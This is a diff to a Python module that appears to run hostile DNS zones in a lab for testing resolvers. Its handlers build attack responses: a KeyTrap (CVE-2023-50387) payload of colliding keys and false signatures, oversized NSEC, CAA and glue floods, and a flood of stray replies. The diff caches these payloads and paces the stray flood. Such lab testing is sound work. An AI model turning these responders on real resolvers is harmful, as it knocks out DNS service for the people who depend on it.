@@ -4,11 +4,13 @@ Each zone is delegated by a parent that is honest, and has addresses of its own:
 (SILENT and FORMERR have more there), and the attack tells by the others how far a client has come.
 """
 
+import functools
 import ipaddress
 import itertools
 import random
 import socket
 import struct
+import time
 
 import signed
 from world import (AA, AT_QUESTION, FORMERR, MAX_MESSAGE, NXDOMAIN, OPT, REFUSED, SERVFAIL, SOA, TC, TYPE_A, TYPE_CAA, TYPE_CNAME,
@@ -22,7 +24,7 @@ GLUE, GLUE_AT = 4000, "10.64.0.0"
 COLLIDING = 100
 SHORT_SIGNATURE = 32
 GUESSES = 20
-STRAYS = 100_000  # No client listens so long.
+STRAYS, STRAYS_AT_ONCE, PAUSE_S = 10_000, 100, 0.01  # No client listens so long.
 HONEST_ZONE = "giant-cdn.test"  # Of the lab's internet mix.
 HONEST_SERVERS = [f"127.64.0.{number}" for number in range(1, 17)]  # The first that the lab gives to its zones.
 
@@ -131,9 +133,13 @@ def wide_glue(query, zone):
     host = f"ns.www.{zone.name}"
     ns = record(zone.below("www"), TYPE_NS, name_wire(host))
     owner = b"\xc0" + bytes([12 + len(query.question) + len(ns) - len(name_wire(host))])
-    first = int(ipaddress.IPv4Address(GLUE_AT)) + GLUE * zone.number
-    glue = [record(owner, TYPE_A, struct.pack("!I", first + i)) for i in range(GLUE)]
-    query.send_long(query.reply(flags=0, authority=[ns], additional=as_many_as_fit(glue, 12 + len(query.question) + len(ns))))
+    query.send_long(query.reply(flags=0, authority=[ns], additional=_glue(owner, zone.number, 12 + len(query.question) + len(ns))))
+
+
+@functools.cache
+def _glue(owner, number, taken):
+    first = int(ipaddress.IPv4Address(GLUE_AT)) + GLUE * number
+    return as_many_as_fit((record(owner, TYPE_A, struct.pack("!I", first + i)) for i in range(GLUE)), taken)
 
 
 def camp(query, zone):
@@ -177,48 +183,61 @@ def strays(query, _zone):
         return query.send(query.reply(flags=AA | TC))
     stray = query.reply(change_id=1)
     for _ in range(STRAYS):
-        query.send(stray)
+        for _ in range(STRAYS_AT_ONCE):
+            query.send(stray)
+        time.sleep(PAUSE_S)
     return None
 
 
 def big_caa(query, _zone):
-    values = (record(AT_QUESTION, TYPE_CAA, caa(str(number), tag="x")) for number in itertools.count())
-    query.send_long(query.reply(answers=as_many_as_fit(values, 12 + len(query.question))))
+    query.send_long(query.reply(answers=_values(12 + len(query.question))))
+
+
+@functools.cache
+def _values(taken):
+    return as_many_as_fit((record(AT_QUESTION, TYPE_CAA, caa(str(number), tag="x")) for number in itertools.count()), taken)
 
 
 # Zones with a DS, and with signatures.
 
-def keys_or(query, zone, others, records, answer):
-    """The zone's keys, or the records that were made for another question: `answer` says where they stand."""
+def room(query):
+    """How many octets of a message with OPT are taken before its records."""
+    return 12 + len(query.question) + len(OPT)
+
+
+def keys_or(query, zone, others, answers=(), authority=()):
+    """Sends the zone's keys, or what was made for another question."""
     if query.type == TYPE_DNSKEY:
-        return query.send_long(query.reply(answers=signed.signed_keys(zone.name, others), additional=[OPT]))
-    fitting = as_many_as_fit(records, 12 + len(query.question) + len(OPT))
-    return query.send_long(query.reply(**{answer: fitting}, additional=[OPT]))
+        answers, authority = signed.signed_keys(zone.name, others), ()
+    query.send_long(query.reply(answers=answers, authority=authority, additional=[OPT]))
 
 
 def big_nsec(query, zone):
     """Pairs of NSEC records that have one owner, as many as a message holds, in the place of a proof."""
-    zone_at = b"\xc0" + bytes([12 + len(query.question) - 4 - len(name_wire(zone.name))])
-    owners = (bytes([4]) + f"{number:04x}".encode() + zone_at for number in itertools.count())
-    pairs = (record(owner, TYPE_NSEC, end) for owner in owners for end in (b"\0", b"\1a\0"))
-    return keys_or(query, zone, 0, pairs, "authority")
+    keys_or(query, zone, 0, authority=_pairs(12 + len(query.question) - 4 - len(name_wire(zone.name)), room(query)))
 
 
-def rrsig_flood(query, zone, others, size):
+@functools.cache
+def _pairs(zone_at, taken):
+    owners = (b"\4" + f"{number:04x}".encode() + b"\xc0" + bytes([zone_at]) for number in itertools.count())
+    return as_many_as_fit((record(owner, TYPE_NSEC, end) for owner in owners for end in (b"\0", b"\1a\0")), taken)
+
+
+@functools.cache
+def _flood(name, rtype, zone, size, taken):
     """A record, and signatures that are none, as many as a message holds."""
-    false = (record(AT_QUESTION, TYPE_RRSIG, each) for each in signed.false_rrsigs(query.name, query.type, zone.name, size))
-    permit = record(AT_QUESTION, query.type, caa("letsencrypt.org"))
-    return keys_or(query, zone, others, itertools.chain([permit], false), "answers")
+    false = (record(AT_QUESTION, TYPE_RRSIG, each) for each in signed.false_rrsigs(name, rtype, zone, size))
+    return as_many_as_fit(itertools.chain([record(AT_QUESTION, rtype, caa("letsencrypt.org"))], false), taken)
 
 
 def big_rrsig(query, zone):
     """Signatures that are too short to be any."""
-    return rrsig_flood(query, zone, 0, SHORT_SIGNATURE)
+    keys_or(query, zone, 0, _flood(query.name, query.type, zone.name, SHORT_SIGNATURE, room(query)))
 
 
 def keytrap(query, zone):
     """CVE-2023-50387: each key might have made each signature."""
-    return rrsig_flood(query, zone, COLLIDING, signed.SIZE)
+    keys_or(query, zone, COLLIDING, _flood(query.name, query.type, zone.name, signed.SIZE, room(query)))
 
 
 def signed_well(query, zone):
@@ -226,16 +245,19 @@ def signed_well(query, zone):
     forbids = caa(";")
     records = [record(AT_QUESTION, TYPE_CAA, forbids),
                record(AT_QUESTION, TYPE_RRSIG, signed.rrsig(query.name, TYPE_CAA, [forbids], zone.name))]
-    return keys_or(query, zone, COLLIDING, records, "answers")
+    keys_or(query, zone, COLLIDING, records)
 
 
 def keytrap_at_keys(query, zone):
     """The same where the keys themselves are signed so."""
-    keys = [record(AT_QUESTION, TYPE_DNSKEY, key) for key in (*signed.colliding_keys(COLLIDING), signed.KEY)]
-    false = (record(AT_QUESTION, TYPE_RRSIG, each)
-             for each in signed.false_rrsigs(zone.name, TYPE_DNSKEY, zone.name))
-    records = as_many_as_fit(itertools.chain(keys, false), 12 + len(query.question) + len(OPT))
-    query.send_long(query.reply(answers=records, additional=[OPT]))
+    query.send_long(query.reply(answers=_keys_flood(zone.name, room(query)), additional=[OPT]))
+
+
+@functools.cache
+def _keys_flood(zone, taken):
+    keys = (record(AT_QUESTION, TYPE_DNSKEY, key) for key in (*signed.colliding_keys(COLLIDING), signed.KEY))
+    false = (record(AT_QUESTION, TYPE_RRSIG, each) for each in signed.false_rrsigs(zone, TYPE_DNSKEY, zone))
+    return as_many_as_fit(itertools.chain(keys, false), taken)
 
 
 # Messages.
